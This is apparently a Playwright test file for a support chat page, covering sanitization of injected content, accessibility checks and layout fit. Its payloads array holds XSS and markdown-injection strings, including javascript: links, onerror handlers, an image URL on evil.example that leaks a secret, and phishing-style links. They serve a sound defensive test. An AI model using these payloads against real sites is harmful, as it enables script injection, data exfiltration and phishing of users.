import { AxeBuilder } from '@axe-core/playwright'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { noBrowser } from './browser.ts'
import { citations, confirm, demoCustomers, seen, useChatPage, write } from './chat-page.ts'

describe.skipIf(noBrowser)(
  `the chat page in any hands${noBrowser ? ` (${noBrowser})` : ''}`,
  { timeout: 20_000 },
  () => {
    const { visit, server } = useChatPage()

    it('runs and fetches nothing that a message or a reply smuggles in', async () => {
      const { page } = await visit()
      server().state.onTurn = (turn) => turn.reply(payloads.join('\n\n'), { citations: payloads.map(asCitation) })
      await write(page, payloads.join('\n'))
      await seen(page, 'end of reply')
      server().agentSays('<img src=x onerror=alert(1)>', payloads.join('\n\n'))
      await seen(page, /You are now talking to <img/)
      await page.evaluate(`for (const chip of document.querySelectorAll('.chip')) chip.click()`)
      await page.reload()
      await seen(page, 'end of reply')
      await page.waitForTimeout(300)
      expect(
        await page.locator('main :is(img, script, iframe, object, embed, form, style, link, svg:not(.icon))').count(),
      ).toBe(0)
      const addresses = await page.evaluate<[string, string][]>(
        `[...document.querySelectorAll('main a[href]:not(.marker)')].map((link) => [link.href, link.textContent])`,
      )
      for (const [address, words] of addresses) {
        expect(address).toMatch(/^https:/)
        expect(words).toBe(address)
      }
      expect(addresses).not.toEqual([])
    })

    for (const colorScheme of ['light', 'dark'] as const) {
      it(`has nothing that axe objects to in ${colorScheme}`, async () => {
        const { page } = await visit({ colorScheme, reducedMotion: 'reduce' })
        await seen(page, 'How can we help?')
        expect(await violations(page)).toEqual([])
        server().state.onTurn = (turn) =>
          turn.text === 'Talk to a person' ? turn.handOver() : turn.reply('Hold `it`. [1]', { citations })
        await write(page, 'I was charged twice')
        await page.getByRole('button', { name: /Why you may see/ }).click()
        await page.getByRole('button', { name: 'Talk to a person' }).click()
        await seen(page, 'A person will answer here.')
        server().agentSays('Mara', 'Hello!')
        await seen(page, 'Hello!')
        server().state.onCall = (_call, request) => {
          request.socket.destroy()
          return true
        }
        await write(page, 'Lost')
        await seen(page, 'Not sent yet. Retrying…')
        expect(await violations(page)).toEqual([])
      })

      it(`has nothing that axe objects to in ${colorScheme} when it acts and in the demo`, async () => {
        server().state.demo = demoCustomers
        const { page } = await visit({ colorScheme, reducedMotion: 'reduce' })
        await page.getByRole('button', { name: 'Try it as one of its customers' }).click()
        expect(await violations(page)).toEqual([])
        await page.getByRole('button', { name: /Noa Berg/ }).click()
        await seen(page, 'Please refund the second one')
        expect(await violations(page)).toEqual([])
        await everyState(page)
        expect(await violations(page)).toEqual([])
        server().state.onTurn = (turn) => turn.reply('Which address?', { action: { kind: 'verify-email' } })
        await write(page, 'Hello')
        await seen(page, 'Open the demo mailbox')
        expect(await violations(page)).toEqual([])
      })
    }

    async function everyState(page: Page) {
      const effects = ['awaiting', 'in_flight', 'in_doubt', 'done', 'failed', 'planned'] as const
      server().state.onTurn = (turn) => {
        if (turn.text === 'yes') return turn.reply('One moment.')
        const items = effects.map((key) => ({ ...confirm().items[0], key, approvals: 1 }))
        turn.reply('Shall I?', { action: { kind: 'confirm', items } })
      }
      await write(page, 'Do it all')
      await page.getByRole('button', { name: 'Yes, do it' }).click()
      await seen(page, 'One moment.')
      const message = `${'It takes as long as it takes. '.repeat(3)}${'x'.repeat(80)}`
      for (const state of effects) server().effect(state, { state, message })
      await seen(page, 'Being checked with the payment system')
      server().state.onTurn = (turn) => turn.reply('And this?', { action: confirm({ approvals: 1 }) })
      await write(page, 'One more')
      await page.getByRole('button', { name: 'Yes, do it' }).waitFor()
    }

    for (const [width, height] of [
      [375, 667],
      [320, 256],
    ] as const) {
      it(`fits ${width} by ${height} pixels from either side when it acts and in the demo`, async () => {
        server().state.demo = demoCustomers
        const { page } = await visit({ viewport: { width, height } })
        const sideways = () =>
          page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')
        for (const direction of ['ltr', 'rtl']) {
          await page.evaluate(`document.documentElement.dir = '${direction}'`)
          await page.getByRole('button', { name: 'Try it as…' }).click()
          expect(await sideways()).toBe(0)
          await page.getByRole('button', { name: /Noa Berg/ }).click()
          await seen(page, 'Please refund the second one')
          expect(await sideways()).toBe(0)
        }
        await everyState(page)
        expect(await sideways()).toBe(0)
      })

      it(`fits ${width} by ${height} pixels without scrolling sideways`, async () => {
        const { page } = await visit({ viewport: { width, height } })
        const sideways = () =>
          page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')
        expect(await sideways()).toBe(0)
        const long = `${'Donaudampfschifffahrtsgesellschaft'.repeat(4)} https://example.com/${'a'.repeat(300)} \`${'x'.repeat(200)}\` [1]`
        server().state.onTurn = (turn) =>
          turn.reply(long, { citations: [{ ...citations[0], title: 'Long '.repeat(40) }] })
        await write(page, long)
        const chip = page.locator('.chip')
        await chip.click()
        await seen(page, 'A second charge is a hold.')
        expect(await sideways()).toBe(0)
      })
    }
  },
)

async function violations(page: Page): Promise<string[]> {
  const { violations: found } = await new AxeBuilder({ page }).setLegacyMode().analyze()
  return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)
}

function asCitation(payload: string, index: number) {
  return { articleId: `article-${index}`, title: payload, quote: payload, version: payload }
}

const payloads = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>@import "https://evil.example/style.css"</style>',
  '"><img src=https://evil.example/pixel.png>',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![pixel][ref]\n\n[ref]: https://evil.example/ref.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](https:alert(1))',
  '[click](http://evil.example/plain)',
  '[click](//evil.example/relative)',
  '[https://bank.example](https://evil.example/phish)',
  '[click](https://bank.example@evil.example/)',
  '[click](https://evil.example/" onmouseover="alert(1))',
  'https://evil.example/auto"onmouseover="alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '```\n<script>alert(1)</script>\n```',
  '**<b onclick=alert(1)>bold</b>**',
  '1. <details open ontoggle=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202Ehttps://evil.example/\u202Dgpj.exe',
  '<a href="javascript:alert(1)">end of reply</a>',
]
